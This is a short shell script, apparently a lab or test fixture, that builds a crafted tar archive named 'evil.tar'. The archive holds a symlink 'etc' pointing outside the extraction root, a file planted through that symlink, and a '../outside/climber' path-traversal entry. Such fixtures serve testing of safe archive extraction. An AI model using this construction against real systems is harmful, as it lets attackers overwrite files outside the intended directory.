#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
mkdir -p /lab/outside /lab/one /lab/two/etc
ln -s /lab/outside /lab/one/etc
echo pwned >/lab/two/etc/planted
echo pwned >/lab/climber
cd /lab
tar -C one -cf evil.tar etc
tar -C two -rf evil.tar etc/planted
tar -P --transform 's|climber|../outside/climber|' -rf evil.tar climber
